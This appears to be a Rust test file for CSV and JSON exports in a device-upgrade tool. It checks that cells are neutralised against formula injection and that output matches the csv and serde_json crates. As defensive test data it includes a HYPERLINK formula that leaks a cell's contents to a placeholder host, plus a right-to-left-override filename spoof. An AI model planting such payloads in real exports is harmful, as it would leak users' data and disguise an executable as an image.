//! Exports, tested natively: neutralised cells, CSV read back by the csv crate, JSON laid
//! out as serde would.
use super::*;
use crate::domain::codes::Catalogue;
use crate::domain::run::Run;

#[test]
fn json_is_laid_out_as_serde_would() {
    let value = serde_json::json!({
        "a": [1, {"b": "x, {y}: \"z\" \\"}, [], {}],
        "c": null, "d": {"e": [true]}
    });
    let compact = serde_json::to_string(&value).unwrap();
    assert_eq!(indented(&compact), serde_json::to_string_pretty(&value).unwrap());
}
use crate::domain::tracking::Tracked;
use crate::testing::{context, plan};

#[test]
fn cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
    for text in ["=HYPERLINK(\"http://x/?\"&A1,\"click\")", "+1", "-2", "@SUM(A1)", "\tx", "\rx"] {
        assert_eq!(cell(text), format!("'{text}"), "{text:?}");
    }
    for text in ["C221081600019", "Ultra Stream HDMI", "1.5.178", "", "a=b", " =x"] {
        assert_eq!(cell(text), text, "{text:?}");
    }
}

#[test]
fn a_direction_override_is_shown_not_obeyed_in_a_cell() {
    assert_eq!(cell("safe\u{202E}gnp.exe"), "safe[U+202E]gnp.exe");
    assert_eq!(cell("=\u{2067}x"), "'=[U+2067]x");
    assert_eq!(cell("עברית"), "עברית", "right-to-left letters are text, kept");
}

#[test]
fn a_device_named_as_a_formula_is_exported_as_text() {
    let mut run = Run::begin(&plan(&["A"]), context(1));
    run.unknown("x".into(), "".into(), 0);
    run.devices[0].name = "=HYPERLINK(\"http://x/?\"&A1,\"click\")".into();
    run.devices[0].sn = "@A".into();
    let text = csv(&run, &Catalogue::builtin());
    let row = text.lines().nth(1).unwrap();
    assert!(row.starts_with("1,'@A,\"'=HYPERLINK("), "{row}");
}

#[test]
fn csv_has_a_header_and_one_row_per_device() {
    let mut run = Run::begin(&plan(&["A", "B", "C"]), context(4));
    run.unknown("x".into(), "".into(), 0);
    run.devices[0].state = Tracked::Verified;
    run.devices[1].state = Tracked::InstallFailed { code: 103, step: 3 };
    run.devices.truncate(2);
    run.left_out.push(crate::domain::run::LeftOutDevice {
        sn: "C".into(),
        reason: crate::domain::call::NotFollowed::AlreadyUpgrading,
    });
    let text = csv(&run, &Catalogue::builtin());
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 4);
    assert_eq!(
        lines[0],
        "run,serial_number,device,from_version,target_version,outcome,final,attempt"
    );
    assert_eq!(lines[1], "4,A,Ultra Stream HDMI,1.5.79,1.5.178,verified,yes,1");
    assert_eq!(
        lines[2],
        "4,B,Ultra Stream HDMI,1.5.79,1.5.178,install failed at step 3: flash write failed (code 103),yes,1"
    );
    assert_eq!(
        lines[3],
        "4,C,Ultra Stream HDMI,1.5.79,1.5.178,not started: already upgrading,yes,"
    );
}

#[test]
fn csv_cells_read_back_as_written_whatever_they_hold() {
    let cells = ["plain", "a, b", "say \"hi\"", "two\nlines", "cr\r", "", "=1+1", "\""];
    let mut table = CsvText::default();
    table.neutralised_row(cells);
    table.neutralised_row(["", "", "", "", "", "", "", ""]);
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(table.0.as_bytes());
    let rows: Vec<Vec<String>> =
        reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0], cells.map(|c| cell(c).into_owned()));
    assert_eq!(rows[1], vec![String::new(); 8]);
}

#[test]
fn json_is_the_saved_run() {
    let run = Run::begin(&plan(&["A"]), context(2));
    assert_eq!(super::super::history::read_run(&json(&run)).unwrap(), run);
}

/// The hand-written writers checked against the libraries they stand in for, on
/// generated input (natively: proptest needs an OS random source).
#[cfg(not(target_arch = "wasm32"))]
mod against_the_libraries {
    use proptest::prelude::*;
    use serde_json::Value;

    use super::super::{CsvText, indented};

    /// Any JSON: every kind of scalar (text with quotes, escapes, braces and commas in
    /// it), nested arrays and objects, empty ones included.
    fn json() -> impl Strategy<Value = Value> {
        let text = prop_oneof![
            any::<String>(),
            prop::sample::select(vec!["", "\\", "\"", "{}", "[]", ":,", "a\"b\\c"])
                .prop_map(str::to_string),
        ];
        let leaf = prop_oneof![
            Just(Value::Null),
            any::<bool>().prop_map(Value::from),
            any::<i64>().prop_map(Value::from),
            any::<f64>().prop_filter("finite", |f| f.is_finite()).prop_map(Value::from),
            text.clone().prop_map(Value::from),
        ];
        leaf.prop_recursive(4, 48, 6, move |inner| {
            prop_oneof![
                prop::collection::vec(inner.clone(), 0..5).prop_map(Value::Array),
                prop::collection::vec((text.clone(), inner), 0..5)
                    .prop_map(|pairs| Value::Object(pairs.into_iter().collect())),
            ]
        })
    }

    proptest! {
        #[test]
        fn indentation_is_what_serde_json_pretty_prints(value in json()) {
            let compact = serde_json::to_string(&value).unwrap();
            prop_assert_eq!(indented(&compact), serde_json::to_string_pretty(&value).unwrap());
        }

        #[test]
        fn csv_rows_read_back_through_the_csv_crate_as_written(
            rows in prop::collection::vec(
                prop::collection::vec(
                    prop_oneof![
                        any::<String>(),
                        prop::sample::select(vec!["", ",", "\"", "\n", "\r\n", "a,\"b\"\r"])
                            .prop_map(str::to_string),
                    ],
                    3,
                ),
                1..6,
            )
        ) {
            let mut table = CsvText::default();
            for row in &rows {
                table.row(&row.iter().map(String::as_str).collect::<Vec<_>>());
            }
            let read: Vec<Vec<String>> = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(table.0.as_bytes())
                .records()
                .map(|r| r.unwrap().iter().map(str::to_string).collect())
                .collect();
            prop_assert_eq!(read, rows);
        }
    }
}
